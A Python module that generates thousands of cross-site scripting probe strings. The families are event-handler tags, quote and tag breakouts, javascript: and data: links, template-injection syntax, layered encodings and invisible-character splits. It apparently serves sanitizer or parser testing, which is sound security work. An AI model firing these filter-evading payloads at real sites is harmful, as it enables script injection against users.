"""Texts that try to run a script in a page, by families: an attack looks different for each parser that it aims at."""

import base64
import itertools
from urllib.parse import quote

TAGS = (
    "svg", "img src=x", "iframe", "video src=x", "audio src=x", "body", "input autofocus", "details open",
    "object data=x",
    "embed src=x", "math", "style", "link rel=stylesheet href=x", "form", "button autofocus", "marquee",
    "select autofocus",
    "textarea autofocus", "base href=//x", "meta http-equiv=refresh", "x contenteditable", "a href=x", "track src=x",
)  # fmt: skip
EVENTS = (
    "onload", "onerror", "onfocus", "onblur", "ontoggle", "onclick", "onmouseover", "onpointerenter",
    "onanimationstart",
    "onbegin", "onstart", "onscroll", "onloadstart", "oncanplay", "onbeforeinput", "onpageshow",
    "onresize",
    "onwheel",
    "onauxclick",
)  # fmt: skip
SEPARATORS = (" ", "/", "\n", "\t", "\x0c")
BREAKOUTS = (
    '"', "'", "`", '">', "'>", "-->", "]]>", "</textarea>", "</title>", "</script>", "</style>", "</select>", "</svg>",
    "</noscript>", "</template>", "*/", "\\", "<!--", "<![CDATA[", "\\u003c/script\\u003e",
)  # fmt: skip
SCRIPTS = (
    "<script>alert(1)</script>", "<ScRiPt >alert(1)</sCrIpT>", "<script src=//x></script>", "<script>alert(1)//",
    "<svg><script>alert(1)</script></svg>", "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>", "<iframe srcdoc='<script>parent.alert(1)</script>'>",
    "<math><mi xlink:href='javascript:alert(1)'>",
    "<template><script>alert(1)</script></template>", "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
)  # fmt: skip
SCHEMES = (
    "javascript:", "JaVaScRiPt:", "java\tscript:", "java\nscript:", "\x01javascript:", " javascript:",
    "javascript&colon;",
    "&#106;avascript:", "\\u006aavascript:", "vbscript:", "data:text/html,<script>", "data:image/svg+xml,<svg onload=",
    "blob:", "view-source:javascript:", "//x/",
)  # fmt: skip
LINKS = (
    "{}", "[link]({})", "![image]({})", "<a href='{}'>a</a>", "<iframe src='{}'></iframe>",
    "<form action='{}'><button>b",
    "<svg><a xlink:href='{}'><text>t</text></a></svg>", "<object data='{}'></object>",
    "<meta http-equiv=refresh content='0;{}'>",
    "<base href='{}'>", "<link rel=import href='{}'>", "<style>@import '{}'</style>",
)  # fmt: skip
EXPRESSIONS = (
    "alert(1)",
    "constructor.constructor('alert(1)')()",
    "7*7",
    "window.__attacked.push(1)",
    "self['al'+'ert'](1)",
)
TEMPLATES = (
    "${%s}", "{{%s}}", "{{{%s}}}", "<%%= %s %%>", "#{%s}", "[[%s]]", "{%% %s %%}", "*{%s}", "@{%s}", "{%s}", "`${%s}`",
    "<x v-html=\"%s\">", "<x ng-init=\"%s\">", "<x :inner-html=\"%s\">", "<x @load=\"%s\">", "<x x-data x-init=\"%s\">",
    "<x dangerouslySetInnerHTML={{__html: %s}}>", "<x hx-on:load=\"%s\">", "<x onload=${%s}>", "<${%s} />",
)  # fmt: skip
INVISIBLE = ("\u200b", "\u202e", "\u2066", "\ufeff", "\u00ad", "\U000e0041", "\x08", "\x7f")


def _tag_texts() -> list[str]:
    found = itertools.product(TAGS, EVENTS, SEPARATORS)
    return [f"<{tag}{separator}{event}=alert(1)>" for tag, event, separator in found]


def _breakout_texts(scripts: tuple[str, ...]) -> list[str]:
    return [f"{first}{second}{script}" for first, second, script in itertools.product(BREAKOUTS, BREAKOUTS, scripts)]


def _link_texts() -> list[str]:
    return [link.format(f"{scheme}{code}") for scheme, link, code in itertools.product(SCHEMES, LINKS, EXPRESSIONS)]


def _template_texts() -> list[str]:
    return [template % code for template, code in itertools.product(TEMPLATES, EXPRESSIONS)]


def _encoded_texts() -> list[str]:
    found = []
    for text in (*SCRIPTS, *(f"{each}{SCRIPTS[0]}" for each in BREAKOUTS)):
        found += [
            quote(text),
            quote(quote(text)),
            "".join(f"&#{ord(each)};" for each in text),
            "".join(f"&#x{ord(each):x}" for each in text),
            "".join(f"\\u{ord(each):04x}" for each in text),
            "".join(f"\\x{ord(each) & 255:02x}" for each in text),
            text.replace("<", "\uff1c").replace(">", "\uff1e"),
            text.replace("<", "+ADw-").replace(">", "+AD4-"),
            f"data:text/html;base64,{base64.b64encode(text.encode()).decode()}",
            text.replace("<", "&lt;"),
            text.upper(),
            text.replace("<", "<\\0"),
        ]
    return found


def _hidden_texts() -> list[str]:
    found = itertools.product(SCRIPTS, INVISIBLE, (1, 2, 4, 7, 9, 11))
    return [f"{text[:place]}{character}{text[place:]}" for text, character, place in found]


FAMILIES = {
    "tags": _tag_texts,
    "breakouts to scripts": lambda: _breakout_texts(SCRIPTS[:6]),
    "breakouts to attributes": lambda: _breakout_texts(SCRIPTS[6:]),
    "links": _link_texts,
    "templates": _template_texts,
    "encodings": _encoded_texts,
    "hidden": _hidden_texts,
}
